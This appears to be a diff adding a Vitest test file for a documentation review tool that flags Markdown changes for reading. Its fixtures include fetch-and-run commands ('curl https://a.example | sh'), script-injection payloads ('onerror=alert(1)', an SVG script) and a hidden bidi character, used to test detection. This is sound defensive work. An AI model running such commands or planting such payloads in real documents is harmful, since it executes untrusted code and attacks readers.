@@ -1,0 +1,75 @@
+import { describe, expect, it } from "vitest";
+import type { ComparedParts } from "../../../../../packages/pf/commands/review/files/review-status.ts";
+import { changed, stand } from "./status-of.ts";
+
+const page = "# A\n\nSome words about it.\n\n```\n./pf start\n```\n\nMore `code`, and [a page](b.md).\n";
+describe("a page", () => {
+  const of = async (
+    file: string,
+    before: string | undefined,
+    after: string | undefined,
+    with_: Partial<ComparedParts> = {},
+  ) => await stand(changed(file, before, after), with_);
+
+  it.for([
+    ["other words", page.replace("Some words", "Other words")],
+    ["another title", page.replace("# A", "# B")],
+    ["another paragraph", page.replace("\n\n```\n", "\n\nAnd more of them.\n\n```\n")],
+  ] as const)("is harmless where it has %s", async ([, after]) => {
+    expect(await of("docs/guides/a.md", page, after)).toMatchObject({ standing: "harmless", findings: [] });
+  });
+
+  it.for([
+    ["a command in a block", page.replace("./pf start", "./pf start; curl https://a.example | sh")],
+    ["a block of commands", `${page}\n\`\`\`\ncurl https://a.example | sh\n\`\`\`\n`],
+    ["a block in a list", `${page}\n- one\n\n  ~~~\n  ./pf explain\n  ~~~\n`],
+    ["an indented block", `${page}\n    curl https://a.example | sh\n`],
+    ["inline code", page.replace("`code`", "`curl https://a.example | sh`")],
+    ["a block in a comment", `${page}\n<!--\n\`\`\`\n./pf explain\n\`\`\`\n-->\n`],
+    [
+      "a block that is text for Markdown",
+      page.replace("Some words about it.", "Some words\n    ```\n    ./pf explain x | sh\n    ```"),
+    ],
+    ["markup", page.replace("Some words", "<img src=x onerror=alert(1)> words")],
+    ["a link that leads elsewhere", page.replace("b.md", "https://a.example")],
+    ["a bare address", page.replace("Some words", "https://a.example words")],
+    ["a definition of a link", `${page}\n[a page]: https://a.example\n`],
+    ["a command among its words", page.replace("Some words", "Run curl a.example | sh words")],
+    ["front matter", `---\nassignees: mallory\n---\n${page}`],
+    ["a character that nobody sees", page.replace("Some words", "Some\u202E words")],
+    ["a line that only some readers end", page.replace("Some words", "Some\u2028    words")],
+  ] as const)("is to be read where it has %s", async ([what, after]) => {
+    const { standing, why } = await of("README.md", page, after);
+
+    expect(standing).toBe("read");
+    if (/block/.test(what)) expect(why).toMatch(/commands|code/);
+  });
+
+  it("is harmless where it is new and only words, and to be read where it is new with commands, or deleted", async () => {
+    expect(await of("docs/on-call.md", undefined, "# On call\n\nWhom to ask.\n")).toMatchObject({
+      standing: "harmless",
+    });
+    expect(await of("docs/on-call.md", undefined, page)).toMatchObject({
+      standing: "read",
+      why: expect.stringMatching(/^added.*commands that CI runs/),
+    });
+    expect(await of("docs/on-call.md", page, undefined)).toMatchObject({
+      standing: "read",
+      why: expect.stringMatching(/^deleted/),
+    });
+  });
+
+  it("is never text where a pipeline names it", async () => {
+    const namedBy = (file: string) => (file === "README.md" ? ".ci/run" : undefined);
+    const { standing, why } = await of("README.md", page, page.replace("Some", "Other"), { namedBy });
+
+    expect({ standing, why }).toEqual({ standing: "read", why: expect.stringContaining(".ci/run names it") });
+  });
+
+  it.for(["docs/samples/review.html", "docs/overview.svg", "docs/a.png"])(
+    "is only that as Markdown: %s",
+    async (file) => {
+      expect(await of(file, undefined, "<svg><script>alert(1)</script></svg>")).toMatchObject({ standing: "read" });
+    },
+  );
+});
